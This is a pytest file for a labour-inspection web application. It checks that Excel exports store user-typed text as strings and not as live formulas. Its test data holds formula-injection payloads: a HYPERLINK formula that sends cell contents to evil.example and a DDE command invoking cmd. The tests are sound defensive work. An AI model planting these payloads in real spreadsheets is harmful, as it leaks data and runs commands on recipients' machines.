"""Spreadsheet formula injection: every Excel export writes user text as text.

A text typed by anyone (an employer named on the public complaint form, an enterprise name)
that starts with = + - @, a tab or a CR must arrive in the staff's workbook as a string
(data_type "s"), never as a formula; numbers and dates stay what they are."""

from __future__ import annotations

import ast
from datetime import date, datetime, timedelta
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

import yutong
from tests.factories import EnterpriseFactory, UserFactory
from tests.inspection.conftest import complaint_data, working_days_ago
from yutong.core import exports, roles
from yutong.inspection import services as inspection_services

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
HOSTILE = [PAYLOAD, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
# XML stores a bare CR as a line feed.
AS_READ = [text.replace("\r", "\n") for text in HOSTILE]


def read_back(data: bytes):
    return load_workbook(BytesIO(data))


def every_cell(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("write_only", [True, False])
def test_hostile_text_is_written_as_text_and_numbers_stay_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("x") if write_only else workbook.active
    exports.append(sheet, [*HOSTILE, 42, 2.5, date(2026, 3, 4), datetime(2026, 3, 4, 9, 30)])
    buffer = BytesIO()
    workbook.save(buffer)
    cells = list(read_back(buffer.getvalue()).worksheets[0].iter_rows())[0]
    texts, numbers = cells[: len(HOSTILE)], cells[len(HOSTILE) :]
    assert [c.value for c in texts] == AS_READ  # shown exactly as typed
    assert {c.data_type for c in texts} == {"s"}
    assert all(c.quotePrefix for c in texts)
    assert [c.data_type for c in numbers] == ["n", "n", "d", "d"]
    assert [c.value for c in numbers[:2]] == [42, 2.5]


def test_write_xlsx_writes_hostile_text_as_text():
    buffer = BytesIO()
    exports.write_xlsx(buffer, "表", ["名称", "人数"], [[text, 3] for text in HOSTILE])
    rows = list(read_back(buffer.getvalue()).worksheets[0].iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type, r[1].data_type) for r in rows] == [
        (text, "s", "n") for text in AS_READ
    ]


def test_no_module_writes_a_workbook_except_through_core():
    """openpyxl is written to only by core.exports (the demo writes sample uploads)."""
    root = Path(yutong.__file__).parent
    allowed = {root / "core" / "exports.py"}
    offenders = []
    for path in root.rglob("*.py"):
        if path in allowed or "demo" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if _is_sheet_append(node):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []


def _is_sheet_append(node) -> bool:
    if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
        return False
    target = node.func.value
    return node.func.attr == "append" and isinstance(target, ast.Name) and target.id in SHEETS


SHEETS = {"sheet", "ws", "worksheet", "cover"}


# --- each export, fetched as a user would -------------------------------------------------


def assert_payload_is_text(response, payload=PAYLOAD):
    assert response.status_code == 200
    streamed = getattr(response, "streaming", False)
    workbook = read_back(b"".join(response.streaming_content) if streamed else response.content)
    cells = list(every_cell(workbook))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hits = [c for c in cells if c.value == payload]
    assert hits, "the hostile text should be in the export"
    assert {c.data_type for c in hits} == {"s"}


@pytest.mark.django_db
def test_enterprise_export(login_client, district_staff, yuzhong):
    EnterpriseFactory(name=PAYLOAD, unit=yuzhong)
    response = login_client(district_staff).get("/registry/enterprises/export/")
    assert_payload_is_text(response)


@pytest.fixture
def inspector(yuzhong):
    return UserFactory(username="x_inspector", unit=yuzhong, roles=[roles.INSPECTOR])


@pytest.fixture
def hostile_complaint(inspector, yuzhong):
    """The employer's name as typed by a complainant."""
    return inspection_services.register_complaint(
        inspector,
        unit=yuzhong,
        channel="hotline_12333",
        received_on=working_days_ago(2),
        **complaint_data(employer_name=PAYLOAD, matter="-" + PAYLOAD),
    )


@pytest.mark.django_db
def test_complaint_export(login_client, inspector, hostile_complaint):
    response = login_client(inspector).get("/inspection/complaints/export/")
    assert_payload_is_text(response)


@pytest.mark.django_db
def test_inspection_case_export(login_client, inspector, hostile_complaint):
    case = inspection_services.accept_complaint(
        inspector, hostile_complaint, accepted_on=hostile_complaint.received_on
    )
    assert case.pk
    response = login_client(inspector).get("/inspection/cases/export/")
    assert_payload_is_text(response)


# --- the other apps' exports: the hostile text typed where their users type it ---------------


@pytest.fixture
def hostile_enterprise(yuzhong):
    return EnterpriseFactory(name=PAYLOAD, unit=yuzhong, employee_count=120, industry="C")


@pytest.mark.django_db
def test_project_export(login_client, district_staff, yuzhong, hostile_enterprise):
    from yutong.registry.models import ConstructionProject  # noqa: PLC0415

    ConstructionProject.objects.create(
        code="500103202601010199",
        name=PAYLOAD,
        unit=yuzhong,
        owner=hostile_enterprise,
        general_contractor=hostile_enterprise,
        contract_amount=Decimal("1000000"),
        status="under_construction",
    )
    assert_payload_is_text(login_client(district_staff).get("/registry/projects/export/"))


@pytest.mark.django_db
def test_mediation_and_arbitration_exports(login_client, district_staff, yuzhong):
    from tests.disputes.test_views import open_mediation, receive  # noqa: PLC0415
    from yutong.disputes.models import ArbitrationCommission, MediationBody  # noqa: PLC0415

    body = MediationBody.objects.create(
        code="M500103009", name="测试调解中心", kind="township", unit=yuzhong
    )
    commission = ArbitrationCommission.objects.create(
        code="A500109", name="测试仲裁委员会", unit=yuzhong, short_name="测试仲"
    )
    open_mediation(district_staff, body, employer=PAYLOAD)
    receive(district_staff, commission, employer=PAYLOAD, serial=10)
    client = login_client(district_staff)
    assert_payload_is_text(client.get("/disputes/mediation/export/"))
    assert_payload_is_text(client.get("/disputes/arbitration/export/"))


@pytest.mark.django_db
def test_harmony_exports(login_client, district_staff, hostile_enterprise):
    from tests.harmony.conftest import granted  # noqa: PLC0415
    from yutong.harmony import services as harmony  # noqa: PLC0415

    harmony.enrol(district_staff, scope="enterprise", enterprise=hostile_enterprise, year=2026)
    granted(hostile_enterprise, "A", timezone.localdate() - timedelta(days=10))
    client = login_client(district_staff)
    assert_payload_is_text(client.get("/harmony/enrollments/export/"))
    assert_payload_is_text(client.get("/harmony/evaluations/export/"))


@pytest.fixture
def union_officer(yuzhong):
    return UserFactory(username="x_union", unit=yuzhong, roles=[roles.UNION_OFFICER])


@pytest.mark.django_db
def test_relations_exports(
    login_client, district_staff, union_officer, yuzhong, hostile_enterprise
):
    from tests.relations.conftest import draft, establish, meeting  # noqa: PLC0415
    from yutong.relations import services as relations  # noqa: PLC0415

    establish(union_officer, hostile_enterprise, name="工会委员会")
    draft(union_officer, hostile_enterprise)
    meeting(union_officer, yuzhong, title=PAYLOAD)
    relations.file_employment(
        district_staff,
        enterprise=hostile_enterprise,
        period=date(2025, 6, 1),
        employees=120,
        contracted=100,
        dispatched=0,
        insured=120,
    )
    client = login_client(union_officer)
    assert_payload_is_text(client.get("/relations/todo/export/?list=no_contract"))
    assert_payload_is_text(client.get("/relations/contracts/export/"))
    assert_payload_is_text(client.get("/relations/tripartite/export/"))
    assert_payload_is_text(login_client(district_staff).get("/relations/filings/export/"))


@pytest.mark.django_db
def test_indicator_report_workbook(login_client, district_staff):
    """Indicator names are typed by the city administrator; the workbook is not write-only."""
    from yutong.indicators.models import Indicator  # noqa: PLC0415

    Indicator.objects.filter(code="mediation_success").update(name="=1+2")
    response = login_client(district_staff).get("/indicators/reports/workbook/", {"year": 2025})
    assert_payload_is_text(response, payload="=1+2")


def test_control_characters_are_dropped_not_a_failed_export():
    # A vertical tab or a unit separator pasted into a stored name: the file format cannot
    # hold them, so they are left out and the rest of the text is kept.
    buffer = BytesIO()
    exports.write_xlsx(buffer, "表", ["名称"], [["重庆\x0b某某\x1f公司\x00"], ["=\x07SUM(1)"]])
    rows = list(read_back(buffer.getvalue()).worksheets[0].iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in rows] == [("重庆某某公司", "s"), ("=SUM(1)", "s")]
    assert rows[1][0].quotePrefix


@pytest.mark.django_db
def test_an_enterprise_export_with_a_control_character_downloads(
    login_client, district_staff, yuzhong
):
    EnterpriseFactory(name="渝中\x0b控制字符有限公司", unit=yuzhong)
    response = login_client(district_staff).get("/registry/enterprises/export/")
    assert response.status_code == 200
    names = [c.value for c in every_cell(read_back(b"".join(response.streaming_content)))]
    assert "渝中控制字符有限公司" in names
